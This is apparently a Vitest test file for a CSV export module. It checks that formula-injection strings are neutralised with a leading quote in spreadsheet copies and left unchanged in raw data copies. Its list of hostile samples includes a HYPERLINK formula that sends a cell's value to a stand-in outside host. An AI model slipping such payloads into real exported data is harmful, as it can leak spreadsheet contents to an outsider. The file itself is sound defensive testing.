import { describe, expect, it } from 'vitest';
import { defuseFormula, parseCsv, toCsv } from './csv.ts';

const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

describe('CSV', () => {
  it('spreadsheet copies make every text that would start a formula text, with a leading quote', () => {
    const rows = hostile.map((name, i) => ({ id: i, name }));
    const parsed = parseCsv(toCsv(['id', 'name'], rows, 'spreadsheet'));
    expect(parsed.map((r) => r['name'])).toEqual(hostile.map((h) => `'${h}`));
    for (const row of parsed) expect(row['name']).toMatch(/^'/);
  });

  it('keeps numbers as numbers, negative ones included, and leaves ordinary text alone', () => {
    expect(defuseFormula(-5)).toBe(-5);
    expect(defuseFormula('Tổ an ninh (-)')).toBe('Tổ an ninh (-)');
    expect(defuseFormula('a=b')).toBe('a=b');
    const csv = toCsv(['value', 'unit'], [{ value: -5, unit: '%' }], 'spreadsheet');
    expect(csv).toBe('\uFEFFvalue,unit\r\n-5,%\r\n');
  });

  it('the data copy says exactly what the content says, with no byte-order mark', () => {
    const rows = hostile.map((name) => ({ name }));
    const csv = toCsv(['name'], rows, 'data');
    expect(csv.startsWith('\uFEFF')).toBe(false);
    expect(parseCsv(csv).map((r) => r['name'])).toEqual(hostile);
  });
});
